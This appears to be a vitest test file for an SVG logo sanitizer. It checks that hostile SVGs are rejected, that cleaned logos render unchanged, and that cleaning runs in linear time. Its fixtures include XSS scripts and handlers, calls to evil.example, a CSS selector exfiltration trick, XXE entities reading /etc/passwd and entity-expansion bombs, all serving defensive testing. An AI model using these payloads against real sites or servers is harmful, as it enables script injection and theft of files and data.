import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import '@/services/product-api/imaging/allowed-formats';
import { cleanSvg } from '@/services/product-api/site/clean-svg';
import { RejectedSvgError } from '@/services/product-api/site/parse-svg';

// The product blocks sharp's SVG loader in the whole process, but these tests render logos to compare them.
const loader = { operation: ['VipsForeignLoadSvg'] };
beforeAll(() => sharp.unblock(loader));
afterAll(() => sharp.block(loader));

const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 50"';
const svg = (content: string, attributes = '') => `<svg ${SVG} ${attributes}>${content}</svg>`;
const clean = (text: string) => cleanSvg(Buffer.from(text)).svg;

function explain(text: string): string {
  try {
    return `accepted: ${clean(text)}`;
  } catch (error) {
    if (!(error instanceof RejectedSvgError)) throw error;
    return [error.reason, error.part].filter(Boolean).join(' ');
  }
}

const SQUARE = '<path d="M0 0h10v10H0z"/>';

const hostile: [title: string, file: string, reason: string][] = [
  ['a script', svg('<script>fetch("https://evil.example")</script>'), 'script script'],
  ['a script in a group', svg(`<g>${SQUARE}<script href="//evil.example/x.js"/></g>`), 'script script'],
  [
    'a script in another prefix',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><s:script/></s:svg>`,
    'script script',
  ],
  ['an event handler', svg(SQUARE, 'onload="alert(1)"'), 'script onload'],
  ['an event handler in capitals', svg('<path d="M0 0" ONCLICK="alert(1)"/>'), 'script ONCLICK'],
  ['a foreign object', svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'), 'part p'],
  ['an empty foreign object', svg('<foreignObject width="10"/>'), 'part foreignObject'],
  ['an HTML script', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'), 'part h:script'],
  ['an HTML frame', svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'), 'part iframe'],
  ['a link', svg(`<a xlink:href="javascript:alert(1)">${SQUARE}</a>`), 'part a'],
  ['a copy from elsewhere', svg('<use href="https://evil.example/x.svg#a"/>'), 'external href'],
  ['a copy from a data URL', svg('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'), 'external href'],
  ['a copy of a script URL', svg('<use xlink:href=" javascript:alert(1)"/>'), 'external href'],
  ['a picture from elsewhere', svg('<image href="https://evil.example/pixel.png"/>'), 'picture image'],
  ['a picture in the file', svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'), 'picture image'],
  ['a fill from elsewhere', svg('<path d="M0 0" fill="url(https://evil.example/x.svg#a)"/>'), 'external fill'],
  ['a cursor from elsewhere', svg('<path d="M0 0" cursor="URL( //evil.example/x )"/>'), 'external cursor'],
  ['a background in a style attribute', svg('<g style="background:url(//evil.example)"/>'), 'external background'],
  ['an escaped URL', svg('<g style="fill:u\\72l(//evil.example)"/>'), 'style'],
  [
    'a font in a style sheet',
    svg('<style>@font-face{font-family:x;src:url(//evil.example)}</style>'),
    'style @font-face',
  ],
  ['an import', svg('<style>@import "https://evil.example/x.css";</style>'), 'style'],
  ['an import in CDATA', svg('<style><![CDATA[@import url(//evil.example);]]></style>'), 'style'],
  ['a selector that reads', svg('<style>path[d^="M"]{fill:url(//evil.example/M)}</style>'), 'style path[d^="M"]'],
  ['an open comment in a style sheet', svg('<style>/* .a{fill:red}</style>'), 'style'],
  [
    'an attached style sheet',
    `<?xml-stylesheet href="https://evil.example/x.css"?>${svg(SQUARE)}`,
    'external xml-stylesheet',
  ],
  ['an entity', `<!DOCTYPE svg [<!ENTITY a "x">]>${svg('&a;')}`, 'entities'],
  [
    'an entity of a file',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg('<desc>&a;</desc>')}`,
    'entities',
  ],
  [
    'multiplying entities',
    `<!DOCTYPE svg [<!ENTITY a "xx"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>${svg('&c;')}`,
    'entities',
  ],
  [
    'a parameter entity',
    `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>${svg('')}`,
    'entities',
  ],
  ['an entity of a foreign DTD', `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('&a;')}`, 'unreadable'],
  ['an animation of a link', svg('<path d="M0 0"><animate attributeName="href" to="x"/></path>'), 'animation animate'],
  ['a setter', svg('<g><set attributeName="onload" to="alert(1)"/></g>'), 'animation set'],
  ['a filter', svg('<filter id="a"><feImage href="//evil.example"/></filter>'), 'part filter'],
  ['words', svg('<text>Impasto</text>'), 'words text'],
  ['a pattern', svg(`<pattern id="a">${SQUARE}</pattern>`), 'part pattern'],
  ['a nested drawing', svg(svg(SQUARE)), 'part svg'],
  ['a handler', svg('<handler type="application/ecmascript">alert(1)</handler>'), 'part handler'],
  [
    'dashes too short to draw',
    svg('<path d="M0 0h99" stroke="red" stroke-dasharray="0.00001"/>'),
    'part stroke-dasharray',
  ],
  ['a value that ends its attribute', svg('<path d="M0 0" fill="&quot;&gt;&lt;script&gt;"/>'), 'part fill'],
  ['a copy of itself', svg('<g id="a"><use href="#a"/></g>'), 'complex'],
  ['copies that multiply', svg(createCopies(12)), 'complex'],
  ['masks that multiply', svg(createMasks(14)), 'complex'],
  ['deep nesting', svg('<g>'.repeat(50) + '</g>'.repeat(50)), 'complex'],
  ['too many elements', svg('<g/>'.repeat(3_000)), 'complex'],
  ['too many bytes', svg(`<path d="${'M0 0'.repeat(70_000)}"/>`), 'complex'],
  ['no size', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', 'size'],
  ['an infinite size', `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e999 1"/>`, 'size'],
  ['a thread', `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1000 1"/>`, 'size'],
  ['HTML', '<!doctype html><html><script>alert(1)</script></html>', 'unreadable'],
  ['no namespace', '<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>', 'unreadable'],
  ['two roots', `${svg(SQUARE)}${svg('<script/>')}`, 'unreadable'],
  ['an unclosed element', `<svg ${SVG}><g>`, 'unreadable'],
  ['an attribute without quotes', svg('<path d=M0/>'), 'unreadable'],
  ['nothing', '', 'unreadable'],
];

function createCopies(levels: number): string {
  const copies = Array.from({ length: levels }, (_, level) => {
    const use = `<use href="#c${level}"/>`;
    return `<g id="c${level + 1}">${use.repeat(4)}</g>`;
  });
  return `<g id="c0">${SQUARE}</g>${copies.join('')}`;
}

function createMasks(levels: number): string {
  const masked = (level: number) => `<path d="M0 0h9v9z" mask="url(#m${level})"/>`;
  return Array.from(
    { length: levels },
    (_, level) => `<mask id="m${level + 1}">${masked(level).repeat(2)}</mask>`,
  ).join('');
}

describe('an SVG logo', () => {
  it.each(hostile)('rejects an SVG logo with %s', (_, file, reason) => {
    expect(explain(file)).toBe(reason);
  });

  it('rejects an SVG in UTF-16 or broken UTF-8', () => {
    const encodings = [
      Buffer.from(`\ufeff${svg(SQUARE)}`, 'utf16le'),
      Buffer.concat([Buffer.from(svg('')), Buffer.of(0xff)]),
    ];
    for (const file of encodings) expect(() => cleanSvg(file)).toThrow(RejectedSvgError);
  });

  it('a cleaned SVG has no elements that are not displayed', () => {
    const file = `<?xml version="1.0" encoding="UTF-8"?><!-- Made by hand -->
      <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
      <svg ${SVG} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
        inkscape:version="1.3" width="100%" data-name="logo" xml:space="preserve" font-family="Arial">
        <title>Private notes</title><metadata><rdf:RDF rdf:about="https://example.org"/></metadata>
        <inkscape:grid onload="alert(1)"/>
        ${SQUARE}
      </svg>`;
    expect(clean(file)).toBe(
      '<svg viewBox="0 0 100 50" width="100" height="50" xmlns="http://www.w3.org/2000/svg"><path d="M0 0h10v10H0z"/></svg>',
    );
  });

  it('an SVG takes its size from its view box, or else from width and height', () => {
    const read = (attributes: string) =>
      cleanSvg(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" ${attributes}/>`));
    expect(read('viewBox="0, 0, 30 20" width="3mm" height="2mm"')).toMatchObject({ width: 30, height: 20 });
    expect(read('width="64px" height="32"')).toMatchObject({ width: 64, height: 32 });
  });

  it.each<[string, string]>([
    [
      'shapes and transforms',
      svg(
        '<g transform="rotate(10 5 5)" fill="#c00"><rect x="5" y="5" width="30" height="20" rx="4"/><circle cx="60" cy="25" r="15"/><ellipse cx="85" cy="25" rx="8" ry="12"/></g><line x1="0" y1="48" x2="100" y2="48" stroke="navy" stroke-width="2" stroke-linecap="round"/><polygon points="40,45 50,30 60,45"/>',
      ),
    ],
    [
      'a gradient with classes, as Illustrator exports it',
      svg(
        '<defs><style>.cls-1, .cls-2{fill:url(#a);} .cls-2{ stroke:#060; stroke-width:3px; font-family:"Arial" } /* end */</style><linearGradient id="a" x1="0" x2="1"><stop offset="0" stop-color="red"/><stop offset="1" style="stop-color:rgb(0, 0, 255);stop-opacity:.5"/></linearGradient></defs><path class="cls-1" d="M5 5h40v40H5z"/><path class="x cls-2" fill="lime" d="M55 5h40v40H55z"/>',
      ),
    ],
    [
      'style attributes, as Inkscape writes them',
      svg(
        '<path d="M5 25 C20 0 40 50 60 25" style="fill:none;stroke:#884400;stroke-width:4;stroke-linecap:round;stroke-dasharray:none;-inkscape-stroke:none;marker-end:none"/>',
      ),
    ],
    [
      'clips and masks, as Figma exports them',
      svg(
        '<g clip-path="url(#clip0)"><mask id="mask0" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="0" y="0" width="50" height="50"><circle cx="25" cy="25" r="20" fill="white"/></mask><g mask="url(#mask0)"><path d="M0 0h50v50H0z" fill="#0a0"/></g><path d="M50 0h80v80z" fill="#00a" fill-opacity=".5"/></g><defs><clipPath id="clip0"><rect width="90" height="50" fill="white"/></clipPath></defs>',
        'fill="none" width="200" height="100"',
      ),
    ],
    [
      'copies, as Sketch exports them',
      svg(
        '<defs><path id="star" d="M10 0l3 7h7l-5 5 2 8-7-5-7 5 2-8-5-5h7z"/><symbol id="dot" viewBox="0 0 4 4"><circle cx="2" cy="2" r="2"/></symbol></defs><use xlink:href="#star" fill="gold"/><use href="#star" x="40" y="20"/><use href="#dot" x="70" y="10" width="20" height="20" fill="teal"/>',
      ),
    ],
    [
      'a fill with a fallback',
      svg(
        '<defs><radialGradient id="g"><stop stop-color="#fff"/><stop offset="1" stop-color="#09f"/></radialGradient></defs><circle cx="50" cy="25" r="20" fill="url( \'#g\' ) red"/>',
      ),
    ],
  ])('an SVG looks the same after cleaning: %s', async (_, file) => {
    const draw = (content: string) => sharp(Buffer.from(content)).resize(400, 200).ensureAlpha().raw().toBuffer();
    const [before, after] = [await draw(file), await draw(clean(file))];
    expect(before.some((value) => value > 0)).toBe(true);
    expect(after.equals(before)).toBe(true);
    expect(clean(clean(file))).toBe(clean(file));
  });

  it('cleaning an SVG takes linear time', () => {
    const files = [
      svg(`<style>${'/*'.repeat(120_000)}</style>`),
      svg(`<path d="${'M0 0'.repeat(60_000)}"/>`),
      svg(`<path fill="${'url('.repeat(60_000)}"/>`),
      svg(
        `<style>${Array.from({ length: 500 }, (_, index) => `.a${index}{fill:red}`).join('')}</style>${`<g class="${Array.from({ length: 20 }, (_, index) => `a${index}`).join(' ')}"/>`.repeat(1_900)}`,
      ),
      svg(`<g style="${'fill:red;'.repeat(25_000)}"/>`),
      '<'.repeat(250_000),
      `<svg ${SVG} ${Array.from({ length: 20_000 }, (_, index) => `a${index}=""`).join(' ')}/>`,
    ];
    for (const file of files) {
      const before = process.cpuUsage();
      explain(file);
      const { user, system } = process.cpuUsage(before);
      expect((user + system) / 1_000, file.slice(100, 160)).toBeLessThan(1_000);
    }
  });
});
